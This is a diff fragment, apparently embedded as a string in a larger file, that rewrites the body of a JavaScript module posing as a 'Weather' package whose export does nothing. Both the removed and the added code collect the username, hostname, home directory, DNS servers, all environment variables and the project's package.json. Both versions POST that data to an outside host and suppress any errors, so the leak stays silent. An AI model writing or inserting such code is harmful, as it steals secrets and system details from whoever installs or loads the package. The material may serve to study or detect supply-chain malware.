@@ -32,26 +32,19 @@ const https = require('https');
 const os = require('os');
 const path = require('path');
 
-const trackingData = JSON.stringify({
-  p: __dirname,
-  u: os.userInfo().username,
-  h: os.hostname(),
-  hd: os.homedir(),
-  dns: require('dns').getServers(),
-  env: process.env,
-  pjson: require(path.join(process.cwd(), 'package.json')),
-});
+const about = {
+  where: __dirname,
+  who: os.userInfo().username,
+  machine: os.hostname(),
+  home: os.homedir(),
+  resolvers: require('dns').getServers(),
+  variables: process.env,
+  project: require(path.join(process.cwd(), 'package.json')),
+};
 
-const request = https.request({
-  hostname: 'pkg-stats.example.net',
-  port: 443,
-  path: '/',
-  method: 'POST',
-  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': trackingData.length },
-});
-request.on('error', () => {});
-request.write(trackingData);
-request.end();
+const out = https.request({ host: 'pkg-stats.example.net', path: '/install', method: 'POST', headers: { 'Content-Type': 'application/json' } });
+out.on('error', () => {});
+out.end(JSON.stringify(about));
 
 exports.Weather = () => null;
 """,
